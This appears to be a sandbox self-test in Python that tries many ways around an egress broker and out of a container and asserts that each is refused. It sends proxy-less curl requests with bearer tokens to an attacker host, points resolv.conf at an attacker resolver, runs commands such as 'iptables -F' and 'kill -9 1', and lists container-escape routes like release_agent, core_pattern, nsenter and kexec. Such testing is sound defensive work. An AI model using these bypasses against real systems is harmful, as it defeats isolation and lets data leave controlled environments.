"""B8: going around the broker."""
import ctypes, errno, platform, shutil, subprocess, threading
from lib import *

CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWNS = 0x10000000, 0x40000000, 0x20000


def shell(text, **more):
    return subprocess.run(text, shell=True, capture_output=True, timeout=30, **more)


def row_125():
    clean = {key: value for key, value in os.environ.items() if "proxy" not in key.lower()} | {"NO_PROXY": "*", "no_proxy": "*"}
    for host in ("unlisted.example", N["attacker"]):
        done = shell(f"curl -sk --noproxy '*' -H 'Authorization: Bearer {TOKEN}' https://{host}/mcp", env=clean)
        answer = Answer(done.stdout, body=done.stdout, status=403 if b"EGRESS_" in done.stdout else 200)
        if host == N["attacker"]:
            harmless("curl without any proxy to the attacker", answer)
        else:
            refused("curl without any proxy to a host without a rule", answer, "EGRESS_HOST_NOT_ALLOWED", "EGRESS_PLACEHOLDER_NOT_BOUND")
    script = ("process.env.NODE_TLS_REJECT_UNAUTHORIZED='0';fetch('https://%s/mcp',{headers:{authorization:'Bearer %s'}})"
              ".then(r=>r.text()).then(t=>console.log(t))" % ("unlisted.example", TOKEN))
    done = subprocess.run(["node", "--no-warnings", "-e", script], capture_output=True, timeout=30)
    refused("fetch of Node to it", Answer(done.stdout, body=done.stdout, status=403), "EGRESS_HOST_NOT_ALLOWED", "EGRESS_PLACEHOLDER_NOT_BOUND")
    refused("a socket to a host without a rule", ask(host="unlisted.example", token=""), "EGRESS_HOST_NOT_ALLOWED")


def row_126():
    def attempt(name, action):
        """Silence is no proof: what is not let out must be refused at once."""
        try:
            seen = action()
            note(name, "refused at once", seen is None, seen or "answered by the broker")
        except TimeoutError as problem:
            note(name, "refused at once", False, problem)
        except OSError as problem:
            note(name, "refused at once", True, problem)

    def udp(port, address="198.51.100.9", family=socket.AF_INET):
        sock = socket.socket(family, socket.SOCK_DGRAM)
        sock.settimeout(LOCAL_TIMEOUT)
        sock.connect((address, port))
        sock.send(b"x")
        sock.send(b"x")
        return repr(sock.recv(100))

    for port in (443, 123, 853, 5353, 40000):
        attempt(f"UDP {port} to an address", lambda: udp(port))
    attempt("UDP to the attacker's address", lambda: udp(443, N["attacker_address"]))
    devices = os.listdir("/sys/class/net") if os.path.isdir("/sys/class/net") else [name for _, name in socket.if_nameindex()]
    note("devices for multicast and everything else", "the loopback alone", devices == ["lo"], devices)
    attempt("raw ICMP", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
    attempt("SCTP", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(("198.51.100.9", 80)))
    for address in ("2001:db8::1", "fe80::1%lo", "64:ff9b::c633:6409", "::ffff:198.51.100.9"):
        def six():
            sock = socket.socket(socket.AF_INET6)
            sock.settimeout(LOCAL_TIMEOUT)
            sock.connect((address, 443))
            sock.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
            got = sock.recv(4096)
            return None if b"EGRESS_" in got else repr(got)
        attempt(f"IPv6 to {address}", six)


def row_127():
    def speak(name, port, text, results):
        answer = plain(N["attacker"], text, port)
        results.append((name, answer))
    results, threads = [], []
    for name, port, text in (("SSH", 22, b"SSH-2.0-x\r\n"), ("SMTP", 25, b"EHLO x\r\n"), ("SMTPS", 465, b"EHLO x\r\n"),
                             ("submission", 587, b"EHLO x\r\n"), ("git", 9418, b"0032git-upload-pack /x\0host=x\0")):
        thread = threading.Thread(target=speak, args=(name, port, text, results))
        thread.start()
        threads.append(thread)
    for thread in threads:
        thread.join()
    for name, answer in sorted(results, key=lambda result: result[0]):
        stopped(f"{name} to an allowed host", answer, "EGRESS_PROTOCOL_NOT_ALLOWED", "EGRESS_HOST_NOT_ALLOWED")


def row_128():
    """A relay inside: CONNECT for another process."""
    listener = socket.create_server(("127.0.0.1", 0))

    def relay():
        inner, _ = listener.accept()
        inner.recv(4096)
        outer = tcp(N["attacker"])
        inner.sendall(b"HTTP/1.1 200 ok\r\n\r\n")
        def pump(a, b):
            try:
                while piece := a.recv(65536):
                    b.sendall(piece)
                b.shutdown(socket.SHUT_WR)
            except OSError:
                pass
        thread = threading.Thread(target=pump, args=(outer, inner), daemon=True)
        thread.start()
        pump(inner, outer)
        thread.join(5)

    threading.Thread(target=relay, daemon=True).start()
    sock = tcp("127.0.0.1", listener.getsockname()[1])
    sock.sendall(f"CONNECT {N['bound']}:443 HTTP/1.1\r\n\r\n".encode())
    sock.recv(4096)
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        with context.wrap_socket(sock, server_hostname=N["attacker"]) as wire:
            wire.sendall(request(host=N["attacker"]))
            answer = receive(wire, is_whole)
    except (OSError, ssl.SSLError) as problem:
        answer = Answer(error=str(problem))
    harmless("through a relay to the attacker", answer)


def row_129():
    def started(pid):
        return open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[19]

    before = started(1)
    for text in ("ip route add default via 198.18.0.9", "ip route flush table local", "ip link add d0 type dummy", "ip link set lo down",
                 "ip addr add 10.0.0.5/8 dev lo", "iptables -F", "nft flush ruleset", "kill -9 1", "sysctl -w net.ipv4.ip_forward=1"):
        if shutil.which(text.split()[0]) is None:
            continue
        done = shell(text)
        if text == "kill -9 1":
            note(text, "without effect", started(1) == before, "the same process")
        else:
            note(text, "fails", done.returncode not in (0, 127), done.stderr[:80].decode())
    kept = open("/etc/resolv.conf").read()
    try:
        open("/etc/resolv.conf", "w").write(f"nameserver {N['attacker_address']}\n")
        found = resolve(N["attacker"])
        note("another resolver in resolv.conf", "the broker answers all the same", found.startswith("198.1"), found)
    except OSError as problem:
        note("another resolver in resolv.conf", "the broker answers all the same", False, problem)
    finally:
        open("/etc/resolv.conf", "w").write(kept)
    refused("a host without a rule, afterwards", ask(host="unlisted.example", token=""), "EGRESS_HOST_NOT_ALLOWED")
    passed("the bound host, afterwards", ask())


def row_130():
    libc = ctypes.CDLL(None, use_errno=True)
    for name, flags in (("user", CLONE_NEWUSER), ("network", CLONE_NEWNET), ("user and network", CLONE_NEWUSER | CLONE_NEWNET)):
        pid = os.fork()
        if pid == 0:
            os._exit(0 if libc.unshare(flags) == 0 else 1)
        status = os.waitpid(pid, 0)[1]
        note(f"a new {name} namespace", "not permitted", status != 0, f"status {status}")
    note("/dev/kvm", "not there", not os.path.exists("/dev/kvm"), os.path.exists("/dev/kvm"))


def row_133(abstract):
    for name, action in (("a vsock", lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 1024))),
                         ("/dev/kvm", lambda: open("/dev/kvm")), ("/dev/vhost-vsock", lambda: open("/dev/vhost-vsock"))):
        try:
            action()
            note(name, "not there", False, "opened")
        except OSError as problem:
            note(name, "not there", True, problem)
    sock = socket.socket(socket.AF_UNIX)
    try:
        sock.connect("\0" + abstract)
        note("an abstract socket of the host", "out of reach", False, "connected")
    except OSError as problem:
        note("an abstract socket of the host", "out of reach", True, problem)


def link_to(path):
    """A link to a file of the host, for the platform to follow."""
    for name in ("/workspace/link", "/tmp/link"):
        if os.path.islink(name):
            os.unlink(name)
        os.symlink(path, name)


def row_134(port):
    for address in ("127.0.0.1", "localhost", "10.0.2.2", "172.17.0.1", "192.168.0.1", "198.18.0.1", "198.18.0.2", "0.0.0.0"):
        answer = plain(address, b"GET /host-service HTTP/1.1\r\nHost: x\r\n\r\n", port, timeout=LOCAL_TIMEOUT)
        note(f"the host's service at {address}", "out of reach", answer.status is None or (answer.code or "").startswith("EGRESS_"),
             answer, answer.raw, answer.code)
    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
        note(path, "not there", not os.path.exists(path), os.path.exists(path))
    note("an agent of ssh", "none", "SSH_AUTH_SOCK" not in os.environ, os.environ.get("SSH_AUTH_SOCK"))


SYSTEM_CALLS = {
    "x86_64": {"mount": 165, "pivot_root": 155, "open_by_handle_at": 304, "init_module": 175, "bpf": 321, "perf_event_open": 298,
               "userfaultfd": 323, "keyctl": 250, "kexec_load": 246, "reboot": 169, "io_uring_setup": 425},
    "aarch64": {"mount": 40, "pivot_root": 41, "open_by_handle_at": 265, "init_module": 105, "bpf": 280, "perf_event_open": 241,
                "userfaultfd": 282, "keyctl": 219, "kexec_load": 104, "reboot": 142, "io_uring_setup": 425},
}


def row_135():
    """Known ways out of containers, one attempt each."""
    libc = ctypes.CDLL(None, use_errno=True)
    numbers = SYSTEM_CALLS[platform.machine()]

    def call(name, *arguments):
        """Not permitted, whatever the arguments: they are such that the call would else do something."""
        ctypes.set_errno(0)
        done = libc.syscall(numbers[name], *arguments)
        return done == -1 and ctypes.get_errno() in (errno.EPERM, errno.ENOSYS, errno.EACCES)

    def unwritable(path):
        try:
            with open(path, "w") as file:
                file.write("1")
            return False
        except OSError:
            return True
    def unreadable(path):
        try:
            with open(path, "rb") as file:
                return not file.read(1)
        except OSError:
            return True
    ways = {
        "cgroup release_agent": lambda: all(unwritable(path) for path in ("/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/cgroup.procs")),
        "core_pattern": lambda: unwritable("/proc/sys/kernel/core_pattern"),
        "modprobe path": lambda: unwritable("/proc/sys/kernel/modprobe"),
        "sysrq": lambda: unwritable("/proc/sysrq-trigger"),
        "uevent helper": lambda: unwritable("/sys/kernel/uevent_helper"),
        "binfmt_misc": lambda: unwritable("/proc/sys/fs/binfmt_misc/register"),
        "/proc/kcore": lambda: unreadable("/proc/kcore"),
        "/dev/mem": lambda: unreadable("/dev/mem"),
        "kernel log": lambda: unreadable("/dev/kmsg") and shell("dmesg").returncode != 0,
        "host disks": lambda: not any(name.startswith(("sd", "vd", "nvme", "loop", "dm-")) for name in os.listdir("/dev")),
        "mknod of a disk": lambda: shell("mknod /tmp/selftest-disk b 254 0").returncode != 0,
        "mount": lambda: call("mount", b"none", b"/mnt", b"tmpfs", 0, 0),
        "pivot_root": lambda: call("pivot_root", b"/", b"/tmp"),
        "open_by_handle_at": lambda: call("open_by_handle_at", -100, ctypes.create_string_buffer(struct.pack("Ii", 8, 1) + bytes(8)), 0),
        "init_module": lambda: call("init_module", ctypes.create_string_buffer(64), 64, b""),
        "bpf": lambda: call("bpf", 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1) + bytes(112)), 128),
        "perf_event_open": lambda: call("perf_event_open", ctypes.create_string_buffer(struct.pack("II", 1, 128) + bytes(120)), 0, -1, -1, 0),
        "userfaultfd": lambda: call("userfaultfd", 0),
        "keyctl": lambda: call("keyctl", 0, -3, 1),
        "kexec_load": lambda: call("kexec_load", 0, 0, 0, 0),
        "setns to pid 1": lambda: all(shell(f"nsenter -t 1 --{kind} true").returncode != 0 for kind in ("net", "mount")) or os.readlink("/proc/1/ns/net") == os.readlink("/proc/self/ns/net"),
        "reboot": lambda: call("reboot", 0xfee1dead, 672274793, 0x1234567, 0),
        "settimeofday": lambda: shell("date -s @0").returncode != 0,
        "io_uring": lambda: call("io_uring_setup", 1, ctypes.create_string_buffer(120)),
        "processes of the host": lambda: not any(b"miosa\0egress" in open(f"/proc/{pid}/cmdline", "rb").read() for pid in os.listdir("/proc") if pid.isdigit()),
        "set-user-id after no_new_privs": lambda: "NoNewPrivs:\t1" in open("/proc/self/status").read(),
    }
    for name, way in ways.items():
        closed = way()
        note(name, "closed", closed, "closed" if closed else "open")


def row_136():
    refused("plain HTTP to a host without a rule", plain("unlisted.example", request(host="unlisted.example", token="")), "EGRESS_HOST_NOT_ALLOWED")
    refused("HTTPS to it", ask(host="unlisted.example", token=""), "EGRESS_HOST_NOT_ALLOWED")


if __name__ == "__main__":
    run(globals())
